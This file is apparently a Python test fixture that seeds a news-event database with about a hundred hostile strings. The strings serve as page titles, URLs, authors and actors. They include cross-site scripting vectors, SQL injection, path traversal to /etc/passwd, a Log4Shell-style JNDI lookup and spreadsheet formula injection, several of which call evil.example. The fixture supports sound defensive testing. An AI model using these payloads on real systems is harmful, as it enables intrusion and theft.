"""What an unkind page may hold instead of words: some hundred texts, made from tables of kinds, and a database of them.

Whatever runs sets `ran` in the page, or opens a dialog.
"""

from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from hashlib import sha256
from pathlib import Path
from typing import Final

from dateline.casebook import Casebook
from dateline.model.claim import Source
from dateline.model.event import Actor, Coded, Days, Event
from dateline.model.text import Known, Page, Report, Span
from merge.made import a_count, a_town, an_event, on

RUN: Final = "ran=1;alert(1)"
HTML: Final = "<img src=x onerror=ran=1>"

_SCRIPTS: Final = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<script\n>{run}</script\n>",
    "<svg><script>{run}</script></svg>",
    "<math><script>{run}</script></math>",
    "<noscript><p title='</noscript>{html}'>",
    "<template><script>{run}</script></template>",
    "<script>/*</script>{html}*/",
    "\ufeff<script>{run}</script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<base href=//evil.example/><script src=x.js></script>",
)
_HANDLERS: Final = {
    "img": ("src=x onerror", "srcset=x onerror", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload"),
    "svg": ("onload", "onfocusin", "onanimationstart"),
    "body": ("onload", "onpageshow", "onhashchange"),
    "input": ("autofocus onfocus", "onblur autofocus", "type=image src=x onerror"),
    "details": ("open ontoggle", "ontoggle open"),
    "video": ("src=x onerror", "autoplay onloadstart", "><source onerror"),
    "audio": ("src=x onerror", "autoplay oncanplay"),
    "iframe": ("onload", "src=about:blank onload"),
    "object": ("data=x onerror", "onload"),
    "embed": ("src=x onload",),
    "marquee": ("onstart", "behavior=alternate onbounce"),
    "select": ("autofocus onfocus",),
    "textarea": ("autofocus onfocus",),
    "button": ("autofocus onfocus", "popovertarget=x onbeforetoggle"),
    "a": ("href=# onclick", "onmouseover", "onpointerenter", "tabindex=0 autofocus onfocus"),
    "div": ("onpointerenter", "style=animation:x onanimationstart", "contenteditable autofocus onfocus", "onwheel"),
    "style": ("onload",),
    "link": ("rel=stylesheet href=x onerror",),
    "form": ("onformdata", "action=javascript:{run} onsubmit"),
    "dialog": ("open onclose",),
}
_SVG: Final = (
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><a xlink:href=javascript:{run}><text y=20>here</text></a></svg>",
    "<svg><use href=data:image/svg+xml,{html}>",
    "<svg><foreignObject>{html}</foreignObject></svg>",
    "<svg><style>{html}</style></svg>",
    "<svg><title>{html}",
    "<math><mtext><table><mglyph><style>{html}",
    "<math href=javascript:{run}>here</math>",
    "<svg><desc>{html}</svg>",
)
_URLS: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript://%0a{run}",
    "javascript:{run}//http://",
    "&#106;avascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "vbscript:msgbox(1)",
    "//evil.example/x.js",
    "/\\evil.example",
    "\\\\evil.example\\x",
    'https://evil.example/"onmouseover="{run}',
    "http://a@evil.example/'{html}",
    "blob:null/x",
    "file:///etc/passwd",
    "http://[::1]:8700/api/users",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "javascript&colon;{run}",
    "https://evil.example/?x=<script>{run}</script>",
    "../../../etc/passwd",
    "..\\..\\x",
    "%2e%2e%2fapi%2fusers",
    "?back=//evil.example",
)
_BREAKOUTS: Final = (
    '">',
    "'>",
    '"/>',
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</noscript>",
    "</option></select>",
    "</svg>",
    "</table>",
    "\u003c/script\u003e",
    "`>",
    "*/",
    '\\">',
    "</a>",
)
_TEMPLATES: Final = (
    "{{constructor.constructor('ran=1')()}}",
    "{{7*7}}",
    "${ran=1}",
    "#{ran=1}",
    "<%= ran=1 %>",
    "{% import os %}",
    "[[${7*7}]]",
    "{{{ran}}}",
    "@{ran=1}",
    "{0.__class__.__mro__}",
    "%(name)s %s %n",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "{{=1}}",
)
_INVISIBLE: Final = (
    "\u202etxt.exe\u202c",
    "\u2066<b>\u2069",
    "\u200b\u200c\u200d",
    "\ufeffArmy",
    "a\u0300" * 40,
    "\u202e" * 30,
    "\u2028{run}\u2029",
    "\u061c\u200f\u200e",
    "\U000e0041\U000e007f",
    "ａｌｅｒｔ（１）",
    "\x1b]0;ran\x07\x1b[31m",
    "\x08\x08\x7f",
    "\ufffe",
    "😀" * 60,
    "\r\nSet-Cookie: ran=1",
)
_CALLS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"here")',
    "SUM(A1:A9)*2",
    "WEBSERVICE(A1)",
)
_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "\u200b=", "x;=", "x\t=", '"=')
_QUERIES: Final = (
    "'; DROP TABLE events; --",
    '" OR ""="',
    "' UNION SELECT password FROM users --",
    '" NEAR/2 "',
    "*",
    "%' ESCAPE '\\",
    "NOT AND OR (",
)
_QUOTES: Final = (
    '"',
    "'",
    "`",
    '""',
    "','\"\n",
    "\\",
    '\\\\"',
    "&quot;&lt;b&gt;",
    "&#x3c;b&#x3e;",
    "<!--",
    "<![CDATA[",
    "<",
    ">",
    "&amp;amp;",
)


def payloads() -> tuple[str, ...]:
    """All of them, each once, in an order that stays."""
    return tuple(dict.fromkeys(text.replace("{run}", RUN).replace("{html}", HTML) for text in _all()))


def _all() -> Iterator[str]:
    yield from (*_SCRIPTS, *_SVG, *_URLS, *_TEMPLATES, *_INVISIBLE, *_QUERIES, *_QUOTES)
    yield from (f"<{tag} {handler}={{run}}>" for tag, handlers in _HANDLERS.items() for handler in handlers)
    yield from (f"{breakout}{HTML}" for breakout in _BREAKOUTS)
    yield from (f"{start}{call}" for start in _STARTS for call in _CALLS)


def unkind(number: int, payload: str) -> tuple[Page, Coded]:
    """A page whose name, address, title, outlet, author and text are the payload, as are all who act in it."""
    name = f"{payload}/{number}.html"
    page = Page(name=name, data=f"page {number}".encode(), came="feed", known=Known(url=payload, title=payload))
    text = f"{payload} said {payload} shelled {payload} on Monday."
    words = Span(0, len(payload), payload)
    report = Report(
        page=name,
        id=page.id,
        text=text,
        status="coded",
        title=payload,
        outlet=payload,
        byline=(payload,),
        dateline=payload,
        language="en",
        published=f"2024-05-{number % 28 + 1:02}",
    )
    return page, Coded(report=report, events=(_event(number, text, words, _day(number)),))


def _event(number: int, text: str, words: Span, when: Days) -> Event:
    who, source = Actor(name=words.text, words=words), Source(name=words.text, words=words)
    denier = replace(source, stance="denies")
    made = an_event(
        f"{sha256(text.encode()).hexdigest()[:12]}-1", source, denier, counts=(a_count(3, 5, who=words.text),)
    )
    claim = replace(made.claim, sentence=Span(0, len(text), text), trigger=words)
    place = replace(a_town(words.text, lat=10 + number % 20, lon=20 + number % 13), admin1=words.text, words=words)
    return replace(made, claim=claim, agents=(who,), targets=(who,), places=(place,), date=when, voice=words.text)


def _day(number: int) -> Days:
    return on(date(2024, number % 12 + 1, number % 28 + 1))


def database(path: Path) -> Path:
    """A database of all of them."""
    with Casebook.open(path) as book:
        for number, payload in enumerate(payloads()):
            assert book.add(*unkind(number, payload)) is not None, payload
    return path
